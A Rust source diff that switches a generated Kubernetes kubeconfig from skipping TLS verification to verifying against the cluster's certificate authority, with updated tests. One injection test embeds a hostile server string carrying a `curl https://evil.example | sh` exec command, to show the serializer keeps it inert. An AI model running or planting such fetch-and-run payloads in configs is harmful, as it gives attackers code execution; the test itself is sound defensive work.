@@ -10,6 +10,7 @@ use serde_json::{Value, json};
 use super::spec::ClusterKind;
 use crate::capacity::NodeStart;
 use crate::placement::PlanNode;
+use crate::providers::certificate::CaCertificate;
 use crate::providers::endpoints::Endpoints;
 
 /// Ports node 0 listens on, written into its bootstrap.
@@ -101,10 +102,15 @@ fn admin_token(join_token: &str) -> String {
 }
 
 /// How the customer reaches a running cluster, from the nodes' reported endpoints:
-/// `(node_id, role, endpoints)` of every current node. Addresses only: anyone who may read the
-/// cluster reads this, so the Kubernetes admin credential is served apart
+/// `(node_id, role, endpoints)` of every current node, and the certificate authority the
+/// Kubernetes control plane reported. Addresses and public certificates only: anyone who may
+/// read the cluster reads this, so the Kubernetes admin credential is served apart
 /// ([`kubernetes_credentials`]).
-pub(crate) fn connection(kind: ClusterKind, nodes: &[(String, String, Endpoints)]) -> Value {
+pub(crate) fn connection(
+    kind: ClusterKind,
+    nodes: &[(String, String, Endpoints)],
+    leader_ca: Option<&CaCertificate>,
+) -> Value {
     let leader = nodes.iter().find(|(_, role, _)| is_leader(role));
     match (kind, leader) {
         (ClusterKind::Ray, Some((id, _, ep))) => json!({
@@ -118,6 +124,7 @@ pub(crate) fn connection(kind: ClusterKind, nodes: &[(String, String, Endpoints)
             json!({
                 "control_plane_node_id": id,
                 "api_server": server,
+                "certificate_authority": leader_ca.map(CaCertificate::as_pem),
             })
         }
         _ => json!({
@@ -157,8 +164,10 @@ struct KubeCluster<'a> {
 #[derive(Serialize)]
 struct KubeServer<'a> {
     server: &'a str,
-    #[serde(rename = "insecure-skip-tls-verify")]
-    insecure_skip_tls_verify: bool,
+    /// The cluster's certificate authority (base64 of its PEM): `kubectl` verifies the API
+    /// server against it.
+    #[serde(rename = "certificate-authority-data")]
+    certificate_authority_data: String,
 }
 
 #[derive(Serialize)]
@@ -187,19 +196,20 @@ struct KubeContextRefs<'a> {
 pub(crate) const SECRET_CONNECTION_KEYS: [&str; 1] = ["kubeconfig"];
 
 /// A Kubernetes cluster's admin bearer token and a kubeconfig holding it, for the API server
-/// at `server`. The kubeconfig is written by a serializer, so no reported value can add to its
-/// structure.
+/// at `server` whose certificate `ca` signed. The kubeconfig is written by a serializer, so no
+/// reported value can add to its structure.
 pub(crate) fn kubernetes_credentials(
     cluster_name: &str,
     join_token: &str,
     server: &str,
+    ca: &CaCertificate,
 ) -> (String, String) {
     let token = admin_token(join_token);
-    let config = kubeconfig(cluster_name, server, &token);
+    let config = kubeconfig(cluster_name, server, ca, &token);
     (token, config)
 }
 
-fn kubeconfig(name: &str, server: &str, token: &str) -> String {
+fn kubeconfig(name: &str, server: &str, ca: &CaCertificate, token: &str) -> String {
     let user = format!("{name}-admin");
     let config = KubeConfig {
         api_version: "v1",
@@ -209,9 +219,7 @@ fn kubeconfig(name: &str, server: &str, token: &str) -> String {
             value: KubeCluster {
                 cluster: KubeServer {
                     server,
-                    // The node's certificate is self-signed by k3s; the token is what
-                    // authenticates.
-                    insecure_skip_tls_verify: true,
+                    certificate_authority_data: ca.kubeconfig_data(),
                 },
             },
         }],
@@ -273,6 +281,16 @@ mod tests {
         Endpoints::parse(v.as_object().unwrap()).unwrap()
     }
 
+    fn ca() -> CaCertificate {
+        use base64::Engine;
+        let der: Vec<u8> = std::iter::once(0x30).chain(1..=64u8).collect();
+        let b64 = base64::engine::general_purpose::STANDARD.encode(der);
+        CaCertificate::parse(&format!(
+            "-----BEGIN CERTIFICATE-----\n{b64}\n-----END CERTIFICATE-----\n"
+        ))
+        .unwrap()
+    }
+
     #[test]
     fn kubernetes_connection_has_no_secret_and_credentials_are_a_kubeconfig() {
         let nodes = vec![(
@@ -280,11 +298,13 @@ mod tests {
             "control_plane".to_string(),
             endpoints(json!({"api_server": "https://10.0.0.1:6443"})),
         )];
-        let c = connection(ClusterKind::Kubernetes, &nodes);
+        let c = connection(ClusterKind::Kubernetes, &nodes, Some(&ca()));
         assert_eq!(c["api_server"], "https://10.0.0.1:6443");
         assert_eq!(c["control_plane_node_id"], "nod_cp");
+        assert_eq!(c["certificate_authority"], ca().as_pem());
         assert!(!c.to_string().contains(&admin_token("secret")));
-        let (token, config) = kubernetes_credentials("k1", "secret", "https://10.0.0.1:6443");
+        let (token, config) =
+            kubernetes_credentials("k1", "secret", "https://10.0.0.1:6443", &ca());
         assert_eq!(token, admin_token("secret"));
         assert!(config.contains("server: https://10.0.0.1:6443"));
         assert!(config.contains(&token));
@@ -292,10 +312,12 @@ mod tests {
         let parsed: serde_yaml::Value = serde_yaml::from_str(&config).unwrap();
         assert_eq!(parsed["current-context"], "k1");
         assert_eq!(parsed["contexts"][0]["context"]["user"], "k1-admin");
+        // The server is verified against the cluster's own authority, never skipped.
         assert_eq!(
-            parsed["clusters"][0]["cluster"]["insecure-skip-tls-verify"],
-            true
+            parsed["clusters"][0]["cluster"]["certificate-authority-data"],
+            ca().kubeconfig_data()
         );
+        assert!(!config.contains("insecure-skip-tls-verify"));
     }
 
     /// A server string that tries to add a user of its own stays one string: the kubeconfig
@@ -304,7 +326,7 @@ mod tests {
     fn a_hostile_server_string_cannot_change_the_kubeconfig() {
         let hostile = "https://x:6443\n- name: ops\n  user:\n    exec: {command: sh, args: [-c, 'curl https://evil.example | sh']}\n\
                        contexts:\n- name: ops\n  context: {cluster: k1, user: ops}\ncurrent-context: ops";
-        let config = kubeconfig("k1", hostile, "tok");
+        let config = kubeconfig("k1", hostile, &ca(), "tok");
         let parsed: serde_yaml::Value = serde_yaml::from_str(&config).unwrap();
         for list in ["clusters", "users", "contexts"] {
             assert_eq!(parsed[list].as_sequence().unwrap().len(), 1, "{config}");
@@ -325,7 +347,7 @@ mod tests {
     fn ray_and_container_connections_carry_the_endpoints() {
         let head = endpoints(json!({"ray": "10.0.0.1:6379", "client": "ray://10.0.0.1:10001"}));
         let nodes = vec![("nod_h".to_string(), "head".to_string(), head.clone())];
-        let c = connection(ClusterKind::Ray, &nodes);
+        let c = connection(ClusterKind::Ray, &nodes, None);
         assert_eq!(c["ray_address"], "ray://10.0.0.1:10001");
         assert_eq!(c["gcs_address"], "10.0.0.1:6379");
         assert_eq!(c["dashboard_url"], serde_json::Value::Null);
@@ -334,7 +356,7 @@ mod tests {
             "10.0.0.1:6379"
         );
         let nodes = vec![("nod_c".to_string(), "container".to_string(), head)];
-        let c = connection(ClusterKind::Container, &nodes);
+        let c = connection(ClusterKind::Container, &nodes, None);
         assert_eq!(c["nodes"][0]["endpoints"]["ray"], "10.0.0.1:6379");
     }
 }
